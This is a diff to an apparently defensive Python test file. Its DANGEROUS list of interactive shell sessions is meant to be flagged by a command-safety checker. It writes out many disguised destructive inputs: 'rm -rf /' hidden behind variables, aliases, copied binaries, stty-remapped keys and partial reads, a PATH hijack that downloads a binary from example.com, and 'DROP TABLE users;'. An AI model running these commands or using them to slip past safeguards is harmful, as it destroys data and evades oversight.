@@ -1,6 +1,6 @@
-"""Interactive sessions: the command that starts a process, and what is written to it, write by write.
+"""Interactive sessions: the command that starts a process, and the sequence of writes to it.
 
-In `DANGEROUS`, some write must be asked about or refused; in `HARMLESS`, none may be.
+In `DANGEROUS`, at least one write must be flagged; in `HARMLESS`, none.
 """
 
 from __future__ import annotations
@@ -28,8 +28,8 @@ def terminal(command: str, *writes: str) -> Sequence:
     return Sequence(command, writes, pty=True)
 
 
-# Commands that may take the next line away from the shell that runs them.
-LINE_TAKERS = [
+# Commands that may read the next line instead of the shell that runs them.
+LINE_READERS = [
     *(
         "head -1 /dev/stdin",
         "cat /dev/fd/0",
@@ -92,7 +92,7 @@ LINE_TAKERS = [
 ]
 
 DANGEROUS = [
-    *(pipe("bash", "a=rm\n", f"{taker}\n", "a=ls\n", "$a -rf /\n") for taker in LINE_TAKERS),
+    *(pipe("bash", "a=rm\n", f"{taker}\n", "a=ls\n", "$a -rf /\n") for taker in LINE_READERS),
     pipe("a=rm; export a; head -1; bash", "a=ls\n", "$a -rf /\n"),
     terminal("bash", "a=rm\r", "ls | less\r", "a=ls\r", "$a -rf /\r"),
     terminal("bash", "a=rm\r", "rm notes.txt\r", "a=ls\r", "$a -rf /\r"),
@@ -128,7 +128,7 @@ DANGEROUS = [
     pipe("X=/ bash", 'rm -rf "$X"\n'),
     pipe("env -i bash --norc", "f() {\n", "rm -rf /; }\n", "f\n"),
     pipe("bash", "curl -o /tmp/e/ls http://example.com/e\n", "PATH=/tmp/e:$PATH\n", "ls\n"),
-    # Text that is broken, unfinished or taken by another program hides nothing
+    # Text that is invalid, unfinished or read by another program hides nothing
     pipe("bash", "echo )\n", "rm -rf /\n"),
     pipe("bash", "head -1\n", "'\n", "rm -rf /\n"),
     pipe("bash", "head -1\n", "'\n", "rm -rf \\\n", "/\n"),
@@ -226,13 +226,13 @@ DANGEROUS = [
     terminal("bash", "python3\r", "\x04", "rm -rf /\r"),
     terminal("bash", "ls\x16\x03\r"),
     terminal("bash", "\x1b[200~ls\x1b[201~\r"),
-    # Words of zsh and fish, and copies of programs
+    # Keywords of zsh and fish, and copies of programs
     pipe("zsh -f", "v='rm -rf /'\n", "$=v\n"),
     pipe("zsh -f", "alias -s txt='rm -rf'\n", "notes.txt\n"),
     pipe("fish", "abbr -a ll rm\n", "ll -rf /\n"),
     pipe("bash", "rsync /bin/rm foo\n", "./foo -rf /\n"),
     pipe("bash", "tar cf - -C /bin rm | tar xf -\n", "mv rm foo\n", "./foo -rf /\n"),
-    # Keys that were given another meaning
+    # Redefined keys
     terminal("bash", "stty kill z\r", "echo hi zrm -rf /\r"),
     terminal("bash", "stty kill z\recho hi zrm -rf /\r"),
     terminal("stty kill z; bash", "echo hi zrm -rf /\r"),
@@ -260,13 +260,13 @@ DANGEROUS = [
     terminal("bash", "tset -k z\r", "echo hi zrm -rf /\r"),
     terminal("python3", 'import readline; readline.parse_and_bind(\'"q":"r"\')\r', "x = 1\r"),
     terminal("python3", "import os; os.system('stty kill z')\r", "x = 1\r"),
-    # A program that takes a part of a line
+    # A program that reads part of a line
     pipe("bash", "head -c 5\n", "echo rm -rf /\n"),
     pipe("bash", "head -c 5 /dev/stdin\n", "echo rm -rf /\n"),
     pipe("bash", "dd bs=1 count=5\n", "echo rm -rf /\n"),
     pipe("bash", "read -n 5 x\n", "echo rm -rf /\n"),
     pipe("bash", "python3 -c 'import os; os.read(0, 5)'\n", "echo rm -rf /\n"),
-    # Programs that are not known to be interpreters
+    # Programs that are not known interpreters
     pipe("cat", "rm -rf /\n"),
     pipe("./console", "f(){ rm -rf /; }\n", "f\n"),
     pipe("./console", "DROP TABLE users;\n"),
